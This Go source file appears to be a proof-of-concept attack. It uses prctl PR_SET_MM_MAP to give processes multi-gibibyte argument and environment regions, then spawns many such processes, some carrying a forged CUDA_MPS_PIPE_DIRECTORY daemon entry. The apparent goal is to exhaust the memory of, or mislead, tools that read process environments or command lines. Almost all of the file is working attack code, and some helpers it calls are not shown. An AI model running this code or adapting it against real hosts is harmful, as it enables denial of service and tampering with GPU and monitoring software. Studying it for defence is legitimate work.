package main

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

// The attack on the memory of a program that reads the environment or the command line of a process. A process may
// set the address and the length of both in its own memory. Memory that the process never wrote costs nothing.

const (
	prSetMM    = 35
	prSetMMMap = 14
)

// mmMap is the kernel's struct prctl_mm_map.
type mmMap struct {
	startCode, endCode, startData, endData, startBrk, brk, startStack, argStart, argEnd, envStart, envEnd uint64
	auxv                                                                                                  uintptr
	auxvSize                                                                                              uint32
	exe                                                                                                   int32
}

// claim gives this process an environment and a command line of this many GiB. Both begin with the entry.
func claim(gib int, entry string) error {
	size := gib << 30
	memory, err := syscall.Mmap(-1, 0, size, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_PRIVATE|syscall.MAP_ANON|syscall.MAP_NORESERVE)
	if err != nil {
		return err
	}
	copy(memory, entry)
	fields, err := ownStat()
	if err != nil {
		return err
	}
	brk, _, _ := syscall.RawSyscall(syscall.SYS_BRK, 0, 0, 0)
	start := uint64(uintptr(unsafe.Pointer(&memory[0])))
	m := mmMap{
		startCode: fields[26], endCode: fields[27], startData: fields[45], endData: fields[46], startBrk: fields[47], brk: uint64(brk),
		startStack: fields[28], argStart: start, argEnd: start + uint64(size), envStart: start, envEnd: start + uint64(size), exe: -1,
	}
	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PRCTL, prSetMM, prSetMMMap, uintptr(unsafe.Pointer(&m)), unsafe.Sizeof(m), 0, 0); errno != 0 {
		return fmt.Errorf("prctl: %w", errno)
	}
	return sleep()
}

// ownStat returns the fields of /proc/self/stat by their numbers in proc(5).
func ownStat() (map[int]uint64, error) {
	content, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		return nil, err
	}
	fields := map[int]uint64{}
	for i, field := range strings.Fields(string(content[strings.LastIndexByte(string(content), ')')+1:])) {
		fields[i+3], _ = strconv.ParseUint(field, 10, 64)
	}
	return fields, nil
}

// claims starts this many processes that call claim. They end with this process. Every second one has the environment
// of a daemon with the pipe folder.
func claims(count, gib int, pipe string) error {
	runtime.LockOSThread() // the processes end with this thread
	for i := range count {
		entry := ""
		if i%2 == 0 {
			entry = "x\x00-d\x00CUDA_MPS_PIPE_DIRECTORY=" + pipe + "\x00"
		}
		process := exec.Command(os.Args[0], "claim", strconv.Itoa(gib), strconv.Quote(entry))
		process.Env = []string{"GOMAXPROCS=1"}
		process.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		out, err := process.StdoutPipe()
		if err != nil {
			return err
		}
		if err := process.Start(); err != nil {
			return err
		}
		if line, err := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
			return fmt.Errorf("process %d prints %q: %v", i, line, err)
		}
	}
	return sleep()
}
